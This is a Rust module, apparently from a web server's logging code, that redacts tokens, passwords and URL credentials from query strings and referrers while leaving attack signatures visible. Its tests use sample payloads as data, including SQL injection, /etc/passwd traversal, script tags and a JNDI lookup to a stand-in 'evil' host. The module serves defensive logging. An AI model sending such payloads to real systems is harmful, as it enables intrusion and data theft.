//! A raw query or referrer in; the same as it may be logged, and what is odd about it, out.
//!
//! Attack signatures live in values, so values are logged. A token is not an attack and would be a
//! leak; but a parameter's name must not be a place to hide in.

use std::collections::HashSet;

use percent_encoding::percent_decode_str;

use super::text;

/// A query or a referrer fit for the log.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Redacted {
    /// The same without its secrets; what hides is spelled out. C0 control characters are left to
    /// JSON, which escapes them.
    pub text: String,
    /// A parameter came more than once.
    pub duplicate: bool,
    /// A redacted value held what no secret holds.
    pub odd_secret: bool,
}

/// Replaces token-shaped values of secret-looking names, and every value of a password's.
pub fn redact(raw: &str) -> Redacted {
    let mut redacted = Redacted { text: String::with_capacity(raw.len()), ..Redacted::default() };
    let mut seen = HashSet::new();
    for (n, segment) in raw.split('&').enumerate() {
        if n > 0 {
            redacted.text.push('&');
        }
        let (key, value) = segment.split_once('=').unwrap_or((segment, ""));
        if !key.is_empty() && raw.contains('&') {
            redacted.duplicate |= !seen.insert(decode(key));
        }
        if !value.is_empty() {
            let is_token = || is_token_shaped(&decode(value));
            let hidden = match secrecy(&decode(key).to_ascii_lowercase()) {
                Secrecy::None => false,
                Secrecy::Token => is_token(),
                Secrecy::Password => {
                    redacted.odd_secret |= !is_token();
                    true
                }
            };
            if hidden {
                redacted.text.push_str(&text::sanitise(key));
                redacted.text.push_str("=[redacted]");
                continue;
            }
        }
        redacted.text.push_str(&text::sanitise(segment));
    }
    redacted
}

/// The same for what a referrer holds of pairs, behind `?` and behind `#`; a user is redacted always.
pub fn redact_referrer(raw: &str) -> Redacted {
    let (page, fragment) = raw.split_once('#').map_or((raw, None), |(p, f)| (p, Some(f)));
    let (page, query) = page.split_once('?').map_or((page, None), |(p, q)| (p, Some(q)));
    let mut redacted = redact_user(page);
    for (mark, pairs) in [('?', query), ('#', fragment)] {
        let Some(pairs) = pairs else { continue };
        let pairs = redact(pairs);
        redacted.text.push(mark);
        redacted.text.push_str(&pairs.text);
        redacted.odd_secret |= pairs.odd_secret;
    }
    redacted
}

/// `scheme://user:password@host/path` (RFC 3986 §3.2.1), and what browsers read like it: any number of
/// slashes, in either direction.
fn redact_user(page: &str) -> Redacted {
    let is_slash = |c: char| matches!(c, '/' | '\\');
    let is_scheme = |c: char| c.is_ascii_alphanumeric() || "+-.".contains(c);
    let (scheme, behind_scheme) = match page.split_once(':') {
        Some((scheme, rest)) if scheme.chars().all(is_scheme) => (scheme, rest),
        _ => ("", page),
    };
    // Of these two browsers want no slash at all.
    let slashes_min = match scheme.to_ascii_lowercase().as_str() {
        "http" | "https" => 0,
        "" => 2,
        _ => 1,
    };
    let authority_on = behind_scheme.trim_start_matches(is_slash);
    let slashes = behind_scheme.len() - authority_on.len();
    let (before, rest) = page.split_at(page.len() - authority_on.len());
    let (authority, path) = rest.split_at(rest.find(is_slash).unwrap_or(rest.len()));
    match authority.rsplit_once('@') {
        Some((user, host)) if slashes >= slashes_min => Redacted {
            text: text::sanitise(&format!("{before}[redacted]@{host}{path}")),
            odd_secret: !user.split(':').all(|part| is_token_shaped(&decode(part))),
            ..Redacted::default()
        },
        _ => Redacted { text: text::sanitise(page), ..Redacted::default() },
    }
}

enum Secrecy {
    None,
    Token,
    Password,
}

/// `pass|pwd|token|secret|api.?key|auth|session|code|sig`
fn secrecy(key: &str) -> Secrecy {
    let holds = |words: &[&str]| words.iter().any(|word| key.contains(word));
    let is_api_key = || {
        key.match_indices("api").any(|(at, _)| {
            let rest = key.get(at + 3..).unwrap_or_default();
            let mut later = rest.chars();
            later.next();
            rest.starts_with("key") || later.as_str().starts_with("key")
        })
    };
    if holds(&["pass", "pwd", "secret"]) {
        Secrecy::Password
    } else if holds(&["token", "auth", "session", "code", "sig"]) || is_api_key() {
        Secrecy::Token
    } else {
        Secrecy::None
    }
}

/// `[A-Za-z0-9._~+/=-]`, no leading slash, no `..`, no `//`: paths are not tokens. A scheme may stand
/// before it, as in `Authorization`.
fn is_token_shaped(value: &str) -> bool {
    let value = match value.split_once(' ') {
        Some((scheme, token))
            if ["basic", "bearer"].iter().any(|known| scheme.eq_ignore_ascii_case(known)) =>
        {
            token
        }
        _ => value,
    };
    value.bytes().all(|b| b.is_ascii_alphanumeric() || b"._~+/=-".contains(&b))
        && !value.starts_with('/')
        && !value.contains("..")
        && !value.contains("//")
}

/// A plus stays: in a token it is a plus more often than a blank.
fn decode(text: &str) -> String {
    percent_decode_str(text).decode_utf8_lossy().into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(raw: &str, text: &str, duplicate: bool, odd_secret: bool) {
        assert_eq!(redact(raw), Redacted { text: text.to_owned(), duplicate, odd_secret });
    }

    #[test]
    fn tokens_are_redacted_and_attacks_are_not() {
        check("q=1%27%20or%201=1", "q=1%27%20or%201=1", false, false);
        check("token=abc.DEF-123&x=1", "token=[redacted]&x=1", false, false);
        check("access_token=a%2Bb%3D", "access_token=[redacted]", false, false);
        check(
            "api_key=x&apikey=y&x-api-key=z",
            "api_key=[redacted]&apikey=[redacted]&x-api-key=[redacted]",
            false,
            false,
        );
        check("t%6Fken=abc", "t%6Fken=[redacted]", false, false);
        check("TOKEN=abc", "TOKEN=[redacted]", false, false);
        check("code=../../etc/passwd", "code=../../etc/passwd", false, false);
        check("code=%2Fetc%2Fpasswd", "code=%2Fetc%2Fpasswd", false, false);
        check("auth=%3Cscript%3E", "auth=%3Cscript%3E", false, false);
        check("sig=http://evil/x", "sig=http://evil/x", false, false);
        check("token=", "token=", false, false);
        check("token", "token", false, false);
    }

    #[test]
    fn a_password_is_always_redacted_and_an_odd_one_is_told() {
        check("pass=hunter2", "pass=[redacted]", false, false);
        check("password=%27%20or%201=1--", "password=[redacted]", false, true);
        check("client_secret=/etc/passwd", "client_secret=[redacted]", false, true);
    }

    #[test]
    fn duplicates_are_seen_through_their_encoding() {
        check("a=1&a=2", "a=1&a=2", true, false);
        check("a=1&%61=2", "a=1&%61=2", true, false);
        check("a=1&b=2&&", "a=1&b=2&&", false, false);
    }

    #[track_caller]
    fn check_referrer(raw: &str, text: &str, odd_secret: bool) {
        let redacted = redact_referrer(raw);
        assert_eq!((redacted.text.as_str(), redacted.odd_secret), (text, odd_secret), "{raw}");
    }

    #[test]
    fn secrets_of_a_referrer_are_redacted_wherever_they_stand() {
        for (raw, text) in [
            ("", ""),
            ("about:blank", "about:blank"),
            ("http://x/a?b=c&d#e", "http://x/a?b=c&d#e"),
            ("http://x/?token=SeCrEt", "http://x/?token=[redacted]"),
            ("/?token=SeCrEt", "/?token=[redacted]"),
            ("?token=SeCrEt", "?token=[redacted]"),
            ("http://x/?a=1&password=b/c#d", "http://x/?a=1&password=[redacted]#d"),
            ("http://x/#access_token=SeCrEt&a=1", "http://x/#access_token=[redacted]&a=1"),
            ("http://x/#/in?code=SeCrEt", "http://x/#/in?code=[redacted]"),
            ("http://x/?a#b?c#token=SeCrEt", "http://x/?a#b?c#token=[redacted]"),
            ("https://u:SeCrEt@x/", "https://[redacted]@x/"),
            ("https://SeCrEt@x:80?a", "https://[redacted]@x:80?a"),
            ("//u:SeCrEt@x/a", "//[redacted]@x/a"),
            ("http:/u:SeCrEt@x/", "http:/[redacted]@x/"),
            ("http:u:SeCrEt@x/", "http:[redacted]@x/"),
            ("http:\\\\u:SeCrEt@x\\a", "http:\\\\[redacted]@x\\a"),
            ("http:///u:SeCrEt@x/", "http:///[redacted]@x/"),
            ("http://x/?authorization=Basic%20SeCrEt==", "http://x/?authorization=[redacted]"),
            ("http://x/?token=bearer SeCrEt", "http://x/?token=[redacted]"),
            ("/@me", "/@me"),
            ("/a//b@c", "/a//b@c"),
            ("https://x/@a", "https://x/@a"),
            ("https://x?a=b@c", "https://x?a=b@c"),
        ] {
            check_referrer(raw, text, false);
        }
    }

    #[test]
    fn attacks_in_a_referrer_stay_in_or_are_told() {
        for (raw, text, odd_secret) in [
            ("http://x/?q=<script>#<b>", "http://x/?q=<script>#<b>", false),
            ("${jndi:ldap://evil/a}", "${jndi:ldap://evil/a}", false),
            ("' or 1=1--", "' or 1=1--", false),
            ("http://x/?code=../../etc", "http://x/?code=../../etc", false),
            ("http://x/?pass=' or 1=1", "http://x/?pass=[redacted]", true),
            ("http://x/#pass=%3Cb%3E", "http://x/#pass=[redacted]", true),
            ("http://u:%27--@x/", "http://[redacted]@x/", true),
            ("http://<b>@x/", "http://[redacted]@x/", true),
            ("https://u:Se@CrEt@x#a", "https://[redacted]@x#a", true),
            ("http://x/?password=b?c#d", "http://x/?password=[redacted]#d", true),
        ] {
            check_referrer(raw, text, odd_secret);
        }
    }

    #[test]
    fn raw_bytes_are_spelled_out() {
        check("q=\u{202e}<script>", "q=\\u{202e}<script>", false, false);
    }
}
